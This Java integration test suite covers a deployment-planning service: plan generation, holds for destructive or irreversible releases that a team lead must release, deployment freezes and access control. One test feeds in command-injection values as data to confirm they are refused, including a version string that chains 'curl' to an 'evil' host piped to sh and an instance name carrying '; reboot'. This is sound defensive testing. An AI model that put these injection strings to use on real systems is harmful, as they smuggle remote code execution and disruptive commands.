package io.deploystage.planner;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.junit.jupiter.api.Test;

import io.deploystage.events.ChangeProfile;
import io.deploystage.events.DbMigration;
import io.deploystage.events.DeploymentPlan;
import io.deploystage.events.GateDecision;
import io.deploystage.events.GateOutcome;
import io.deploystage.events.ReleaseCandidate;
import io.deploystage.events.Strategy;
import io.deploystage.events.Topics;
import io.deploystage.stack.EventClient;
import io.deploystage.stack.LocalStackResource;
import io.deploystage.stack.RealStackTest;
import io.deploystage.stack.SampleEvents;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;

/** The planner on the real broker, registry and database: decisions in, plans out; descriptors and held plans through the API. */
@QuarkusTest
@WithTestResource(value = LocalStackResource.class, initArgs = @ResourceArg(name = "database", value = "planner"))
class PlannerFlowTest extends RealStackTest {

    static Map<String, Object> environment(String name, List<String> instances) {
        Map<String, Object> spec = new HashMap<>();
        spec.put("deploy", List.of("kubectl", "--context", "{environment}", "set", "image", "deployment/{instance}", "app=shop/checkout:{version}"));
        spec.put("rollback", List.of("kubectl", "--context", "{environment}", "rollout", "undo", "deployment/{instance}"));
        spec.put("migrate", List.of("flyway", "-url=jdbc:postgresql://db." + name + ":5432/shop", "migrate"));
        spec.put("migrateRollback", List.of("flyway", "-url=jdbc:postgresql://db." + name + ":5432/shop", "undo"));
        spec.put("trafficSwitch", List.of("deploy-traffic", "--to", "{instance}", "--weight", "{weight}"));
        spec.put("flagSet", List.of("flagctl", "set", "{flag}", "--rollout", "{weight}"));
        spec.put("smokeChecks", List.of(Map.of("name", "health", "method", "GET", "url", "https://checkout." + name + ".example.com/q/health", "expectStatus", 200)));
        spec.put("instances", instances);
        spec.put("thresholds", Map.of("errorRatePercent", 2.0, "p95LatencyMs", 250, "businessMetricDropPercent", 20,
                "maxRelativeDegradation", 0.2, "minSamples", 30));
        return spec;
    }

    static Map<String, Object> descriptor() {
        return Map.of("staging", environment("staging", List.of("s1")), "production", environment("production", List.of("p1", "p2")),
                "owners", List.of("dana", "rita"), "escalationContact", "dana", "teamChannel", "#checkout-oncall");
    }

    static void register(String service) {
        given().auth().oauth2(token("olga", "operator")).contentType(ContentType.JSON).body(descriptor())
                .put("/descriptors/{service}", service).then().statusCode(201).body("service", equalTo(service));
    }

    static ReleaseCandidate candidate(String releaseId, String service, String version, DbMigration migration, boolean userFacing) {
        ReleaseCandidate candidate = SampleEvents.releaseCandidate(releaseId, service, version);
        candidate.setChangeProfile(ChangeProfile.newBuilder().setDbMigration(migration).setMigrationReversible(migration == DbMigration.ADDITIVE)
                .setUserFacing(userFacing).build());
        return candidate;
    }

    static GateDecision decision(ReleaseCandidate candidate, GateOutcome outcome) {
        return GateDecision.newBuilder().setEventId(UUID.randomUUID()).setReleaseId(candidate.getReleaseId()).setOccurredAt(Instant.now())
                .setCausationId(candidate.getEventId().toString()).setService(candidate.getService()).setVersion(candidate.getVersion())
                .setOutcome(outcome).setReasons(List.of()).build();
    }

    @Test
    void aClearedDecisionGivesOnePlanWithBothArtifactsServedAsMarkdownAndJson() {
        String service = "checkout-" + UUID.randomUUID().toString().substring(0, 6);
        register(service);
        ReleaseCandidate candidate = candidate("plan-" + UUID.randomUUID(), service, "2.1.0", DbMigration.NONE, true);
        GateDecision cleared = decision(candidate, GateOutcome.CLEARED);
        try (var reader = client.reader(List.of(Topics.DEPLOYMENT_PLANS))) {
            client.publish(candidate);
            client.publish(cleared);
            client.publish(cleared);
            DeploymentPlan plan = awaitPlan(reader, candidate.getReleaseId());
            assertEquals(Strategy.CANARY, plan.getStrategy());
            assertEquals(cleared.getEventId().toString(), plan.getCausationId());
            assertTrue(plan.getDeploymentChecklist().startsWith("# Deployment Checklist: " + service + " 2.1.0\n"));
            assertTrue(plan.getRollbackPlan().contains("- Error rate exceeds 2%\n- P95 latency exceeds 250ms\n"), plan.getRollbackPlan());
            assertEquals("STAGING", plan.getSteps().get(0).getEnvironment().name());
            reader.poll(Duration.ofSeconds(2));
            assertEquals(1, reader.seen().stream().filter(r -> r.key().equals(candidate.getReleaseId())).count(), "one plan per release");
        }
        String reader = token("viewer", "ci");
        given().auth().oauth2(reader).accept("text/markdown").get("/plans/{id}/deployment-checklist", candidate.getReleaseId())
                .then().statusCode(200).contentType(startsWith("text/markdown")).body(containsString("| # | Action | Command | Status |"));
        given().auth().oauth2(reader).accept("text/markdown").get("/plans/{id}/rollback-plan", candidate.getReleaseId())
                .then().statusCode(200).body(startsWith("# Rollback Plan: " + service + " 2.1.0"));
        given().auth().oauth2(reader).get("/plans/{id}", candidate.getReleaseId()).then().statusCode(200)
                .body("status", equalTo("ISSUED")).body("strategy", equalTo("CANARY")).body("plan.choice.strategy", equalTo("CANARY"));
    }

    /**
     * Backlogs are planned set-wise, in polled batches of up to 500: for two services, half the releases' CLEARED
     * decisions come before their candidates and half after; every release gets exactly one plan, caused by its
     * decision, built from its own service's descriptor.
     */
    @Test
    void backlogsOfDecisionsAndCandidatesInEitherOrderGiveOnePlanPerRelease() {
        String first = "batch-a-" + UUID.randomUUID().toString().substring(0, 6);
        String second = "batch-b-" + UUID.randomUUID().toString().substring(0, 6);
        register(first);
        register(second);
        int releases = 600;
        List<ReleaseCandidate> candidates = new java.util.ArrayList<>();
        Map<String, GateDecision> decisionOf = new HashMap<>();
        for (int i = 0; i < releases; i++) {
            ReleaseCandidate candidate = candidate(first + "-" + i, i % 2 == 0 ? first : second, "3.0." + i, DbMigration.NONE, i % 3 == 0);
            candidates.add(candidate);
            decisionOf.put(candidate.getReleaseId(), decision(candidate, GateOutcome.CLEARED));
        }
        List<GateDecision> decisions = candidates.stream().map(c -> decisionOf.get(c.getReleaseId())).toList();
        try (var reader = client.reader(List.of(Topics.DEPLOYMENT_PLANS))) {
            client.publishAll(decisions.subList(0, releases / 2));
            client.publishAll(candidates);
            client.publishAll(decisions.subList(releases / 2, releases));
            reader.awaitUntil(seen -> plansOf(seen, first + "-").size() >= releases, Duration.ofSeconds(120), releases + " plans");
            reader.poll(Duration.ofSeconds(2));
            List<DeploymentPlan> plans = plansOf(reader.seen(), first + "-");
            assertEquals(releases, plans.size(), "one plan per release, none twice");
            for (DeploymentPlan plan : plans) {
                assertEquals(decisionOf.get(plan.getReleaseId()).getEventId().toString(), plan.getCausationId());
                String service = decisionOf.get(plan.getReleaseId()).getService();
                assertTrue(plan.getDeploymentChecklist().startsWith("# Deployment Checklist: " + service + " "), plan.getReleaseId());
            }
        }
    }

    private static List<DeploymentPlan> plansOf(List<ConsumerRecord<String, Object>> seen, String prefix) {
        return seen.stream().filter(r -> r.value() instanceof DeploymentPlan p && p.getReleaseId().startsWith(prefix))
                .map(r -> (DeploymentPlan) r.value()).toList();
    }

    @Test
    void aBlockedDecisionGivesNoPlan() {
        String service = "checkout-" + UUID.randomUUID().toString().substring(0, 6);
        register(service);
        ReleaseCandidate candidate = candidate("plan-" + UUID.randomUUID(), service, "2.2.0", DbMigration.NONE, false);
        try (var reader = client.reader(List.of(Topics.DEPLOYMENT_PLANS))) {
            client.publish(candidate);
            client.publish(decision(candidate, GateOutcome.BLOCKED));
            reader.poll(Duration.ofSeconds(3));
            assertTrue(reader.seen().stream().noneMatch(r -> r.key().equals(candidate.getReleaseId())), "no plan for a BLOCKED release");
        }
        given().auth().oauth2(token("viewer", "ci")).get("/plans/{id}", candidate.getReleaseId()).then().statusCode(404);
    }

    @Test
    void aDestructiveMigrationGivesNoPlanUntilATeamLeadOtherThanTheRequesterReleasesIt() {
        String service = "checkout-" + UUID.randomUUID().toString().substring(0, 6);
        register(service);
        ReleaseCandidate candidate = candidate("plan-" + UUID.randomUUID(), service, "3.0.0", DbMigration.DESTRUCTIVE, false);
        try (var reader = client.reader(List.of(Topics.DEPLOYMENT_PLANS))) {
            client.publish(candidate);
            client.publish(decision(candidate, GateOutcome.CLEARED));
            awaitStatus(candidate.getReleaseId(), "HELD");
            reader.poll(Duration.ofSeconds(1));
            assertTrue(reader.seen().stream().noneMatch(r -> r.key().equals(candidate.getReleaseId())), "a held plan goes nowhere");

            given().auth().oauth2(token("ci-bot", "team-lead")).post("/plans/{id}/release", candidate.getReleaseId()).then().statusCode(403);
            given().auth().oauth2(token("olga", "operator")).post("/plans/{id}/release", candidate.getReleaseId()).then().statusCode(403);
            given().auth().oauth2(token("dana", "approver")).post("/plans/{id}/release", candidate.getReleaseId()).then().statusCode(403);
            given().auth().oauth2(token("tess", "team-lead")).post("/plans/{id}/release", candidate.getReleaseId()).then().statusCode(200)
                    .body("releasedBy", equalTo("tess"));
            DeploymentPlan plan = awaitPlan(reader, candidate.getReleaseId());
            assertTrue(plan.getConstraints().get(0).startsWith("Destructive DB migration"), plan.getConstraints().toString());
            given().auth().oauth2(token("tess", "team-lead")).post("/plans/{id}/release", candidate.getReleaseId()).then().statusCode(409);
        }
    }

    @Test
    void aReleaseThatEmailsUsersOrChangesAPartnerApiIsHeldForATeamLeadWithWhatCannotBeUndone() {
        String service = "checkout-" + UUID.randomUUID().toString().substring(0, 6);
        register(service);
        ReleaseCandidate candidate = candidate("plan-" + UUID.randomUUID(), service, "3.1.0", DbMigration.NONE, true);
        candidate.getChangeProfile().setExternalApiChange(true);
        candidate.getChangeProfile().setSendsNotifications(true);
        try (var reader = client.reader(List.of(Topics.DEPLOYMENT_PLANS))) {
            client.publish(candidate);
            client.publish(decision(candidate, GateOutcome.CLEARED));
            awaitStatus(candidate.getReleaseId(), "HELD");
            given().auth().oauth2(token("viewer", "ci")).accept("text/markdown").get("/plans/{id}/rollback-plan", candidate.getReleaseId())
                    .then().statusCode(200).body(containsString("- External API change visible to partners: partners may adopt it before a rollback"))
                    .body(containsString("- Sends notifications/emails to users: those sent cannot be unsent by a rollback."));
            given().auth().oauth2(token("olga", "operator")).post("/plans/{id}/release", candidate.getReleaseId()).then().statusCode(403);
            given().auth().oauth2(token("tess", "team-lead")).post("/plans/{id}/release", candidate.getReleaseId()).then().statusCode(200);
            DeploymentPlan plan = awaitPlan(reader, candidate.getReleaseId());
            assertTrue(plan.getEscalated(), "the plan says it was escalated");
        }
    }

    @Test
    void theCalendarIsSetOverRestByAnOperatorAndThePlanCarriesItsFirstOpening() {
        String service = "checkout-" + UUID.randomUUID().toString().substring(0, 6);
        register(service);
        Instant until = Instant.now().plus(Duration.ofDays(2)).truncatedTo(java.time.temporal.ChronoUnit.SECONDS);
        Map<String, Object> calendar = Map.of("zone", "Europe/Berlin", "windows", List.of(),
                "freezes", List.of(Map.of("from", Instant.now().minusSeconds(60).toString(), "until", until.toString(), "reason", "launch week")));
        given().auth().oauth2(token("ci-bot", "ci")).contentType(ContentType.JSON).body(calendar).put("/calendar/{scope}", service).then().statusCode(403);
        given().contentType(ContentType.JSON).body(calendar).put("/calendar/{scope}", service).then().statusCode(401);
        given().auth().oauth2(token("olga", "operator")).contentType(ContentType.JSON).body(Map.of("zone", "Mars/Olympus_Mons"))
                .put("/calendar/{scope}", service).then().statusCode(400).body("error", startsWith("the calendar is not valid"));
        given().auth().oauth2(token("olga", "operator")).contentType(ContentType.JSON).body(Map.of("zone", "UTC", "freezes",
                List.of(Map.of("from", "2026-01-02T00:00:00Z", "until", "2026-01-01T00:00:00Z", "reason", "backwards"))))
                .put("/calendar/{scope}", service).then().statusCode(400).body("error", containsString("must end after it starts"));
        given().auth().oauth2(token("olga", "operator")).contentType(ContentType.JSON).body(calendar).put("/calendar/{scope}", service)
                .then().statusCode(200).body("updatedBy", equalTo("olga"));
        given().auth().oauth2(token("viewer", "ci")).get("/calendar/{scope}", service).then().statusCode(200)
                .body("openNow", equalTo(false)).body("nextOpen", equalTo(until.toString()));

        ReleaseCandidate candidate = candidate("plan-" + UUID.randomUUID(), service, "3.2.0", DbMigration.NONE, false);
        try (var reader = client.reader(List.of(Topics.DEPLOYMENT_PLANS))) {
            client.publish(candidate);
            client.publish(decision(candidate, GateOutcome.CLEARED));
            DeploymentPlan plan = awaitPlan(reader, candidate.getReleaseId());
            assertEquals(until, plan.getDeploymentWindow(), "the window is when the freeze ends");
            assertEquals("launch week", plan.getCalendar().getFreezes().get(0).getReason());
            assertTrue(plan.getConstraints().stream().anyMatch(c -> c.startsWith("Deployment calendar:") && c.contains("launch week")),
                    plan.getConstraints().toString());
        }
        given().auth().oauth2(token("olga", "operator")).delete("/calendar/{scope}", service).then().statusCode(204);
        given().auth().oauth2(token("olga", "operator")).delete("/calendar/{scope}", service).then().statusCode(404);
    }

    @Test
    void injectionAttemptsInCandidatesAndDescriptorsAreRefused() {
        String service = "checkout-" + UUID.randomUUID().toString().substring(0, 6);
        register(service);
        ReleaseCandidate candidate = candidate("plan-" + UUID.randomUUID(), service, "1.0;curl${IFS}evil|sh", DbMigration.NONE, false);
        client.publish(candidate);
        client.publish(decision(candidate, GateOutcome.CLEARED));
        awaitStatus(candidate.getReleaseId(), "REFUSED");
        given().auth().oauth2(token("viewer", "ci")).get("/plans/{id}", candidate.getReleaseId()).then()
                .body("reason", startsWith("version '1.0;curl"));

        Map<String, Object> hostile = new HashMap<>(descriptor());
        Map<String, Object> production = new HashMap<>(environment("production", List.of("p1")));
        production.put("deploy", List.of("sh", "-c", "kubectl apply -f - <<< {version}"));
        production.put("instances", List.of("p1; reboot"));
        hostile.put("production", production);
        given().auth().oauth2(token("olga", "operator")).contentType(ContentType.JSON).body(hostile)
                .put("/descriptors/{service}", service).then().statusCode(400)
                .body("problems", hasItem(startsWith("production.deploy: 'sh' would run a shell")))
                .body("problems", hasItem(startsWith("production.instances: 'p1; reboot' is not a safe instance name")));
        given().auth().oauth2(token("ci-bot", "ci")).contentType(ContentType.JSON).body(descriptor())
                .put("/descriptors/{service}", service).then().statusCode(403);
        given().contentType(ContentType.JSON).body(descriptor()).put("/descriptors/{service}", service).then().statusCode(401);
    }

    private static void awaitStatus(String releaseId, String status) {
        long deadline = System.nanoTime() + Duration.ofSeconds(30).toNanos();
        String last = null;
        while (System.nanoTime() < deadline) {
            var response = given().auth().oauth2(token("viewer", "ci")).get("/plans/{id}", releaseId);
            last = response.asString();
            if (response.statusCode() == 200 && status.equals(response.jsonPath().getString("status"))) {
                return;
            }
            io.deploystage.stack.LocalStack.pause(100);
        }
        throw new AssertionError(releaseId + " never reached " + status + ": " + last);
    }

    private static DeploymentPlan awaitPlan(EventClient.Reader reader, String releaseId) {
        List<ConsumerRecord<String, Object>> seen = reader.awaitUntil(records -> records.stream().anyMatch(r -> r.key().equals(releaseId)),
                Duration.ofSeconds(30), "the plan of " + releaseId);
        return seen.stream().filter(r -> r.key().equals(releaseId)).map(r -> (DeploymentPlan) r.value()).findFirst().orElseThrow();
    }
}
